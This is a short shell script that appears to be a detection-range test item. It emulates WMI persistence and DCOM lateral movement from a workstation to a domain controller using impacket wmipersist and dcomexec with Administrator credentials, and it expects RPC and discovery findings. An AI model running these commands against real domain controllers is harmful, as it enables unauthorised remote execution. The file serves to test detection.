# SPDX-License-Identifier: Apache-2.0
# what: impacket wmipersist and wmiquery; Samba has no DCOM
# technique: T1546.003
# from: ws1
# to: dc1
# account: Administrator
# outcome: attempt
# must: finding rpc,discover
. "$RANGE_HERE/item.sh"
impacket wmipersist "CORP/Administrator:$ADMIN_PASSWORD@$dc1" remove -name x
impacket dcomexec -object ShellWindows "CORP/Administrator:$ADMIN_PASSWORD@$dc1" whoami
true
